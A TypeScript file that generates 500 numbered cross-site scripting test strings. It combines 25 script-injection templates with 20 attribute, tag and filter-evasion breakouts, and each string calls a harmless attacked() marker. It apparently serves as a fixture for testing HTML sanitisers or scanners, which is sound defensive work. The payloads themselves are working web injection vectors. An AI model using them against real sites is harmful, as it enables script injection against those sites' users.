/** 500 texts that become scripts where a page takes text for markup, an address or code. Each calls `attacked()` if it runs. */

const CALL = "attacked()";
const TEMPLATES = [
  "<script>CALL</script>",
  "<img src=x onerror=CALL>",
  "<svg onload=CALL>",
  "<svg><script>CALL</script></svg>",
  "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
  "<iframe src=javascript:parent.CALL></iframe>",
  "<body onload=CALL>",
  "<details open ontoggle=CALL>x</details>",
  "<video><source onerror=CALL></video>",
  "<audio src=x onerror=CALL>",
  "<input autofocus onfocus=CALL>",
  "<a href=javascript:CALL id=x autofocus onfocus=CALL>x</a>",
  "<object data=javascript:CALL></object>",
  "<embed src=javascript:CALL>",
  "<math href=javascript:CALL><mtext>x</mtext></math>",
  "<style>@import 'javascript:CALL';</style>",
  "<link rel=stylesheet href=javascript:CALL>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
  "<form action=javascript:CALL><button autofocus onfocus=CALL>x</button></form>",
  "<template><script>CALL</script></template><img src onerror=CALL>",
  "<marquee onstart=CALL>x</marquee>",
  "<div style=animation-name:x onanimationstart=CALL>x</div>",
  "javascript:CALL",
  "data:text/html,<script>CALL</script>",
  "$" + "{CALL}",
] as const;
/** What breaks out of where the text may have been put. */
const BREAKS = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</script>${text}`,
  (text: string) => `</title></textarea></style>${text}`,
  (text: string) => `--><!---->${text}`,
  (text: string) => `"onmouseover="${CALL}" x="${text}`,
  (text: string) => `\\";${CALL}//${text}`,
  (text: string) => `{{constructor.constructor('${CALL}')()}}${text}`,
  (text: string) => `]]>${text}`,
  (text: string) => `\u0000${text}`,
  (text: string) => `\u2028${text}`,
  (text: string) => text.toUpperCase().replaceAll(CALL.toUpperCase(), CALL),
  (text: string) => text.replaceAll(" ", "/"),
  (text: string) => text.replaceAll("<", "<<"),
  (text: string) => text.replaceAll("=", "\t=\n"),
  (text: string) => text.replaceAll("javascript:", "java\tscript:"),
  (text: string) => text.replaceAll("javascript:", "JaVaScRiPt:"),
  (text: string) => `&lt;b&gt;${text}`,
  (text: string) => `<x y="${text}`,
];

/** Numbered, so that each can be told on a page. */
export const SCRIPT_PAYLOADS: readonly string[] = TEMPLATES.flatMap((template) =>
  BREAKS.map((broken) => broken(template.replaceAll("CALL", CALL))),
).map((text, i) => `${text} ${i + 1}.`);
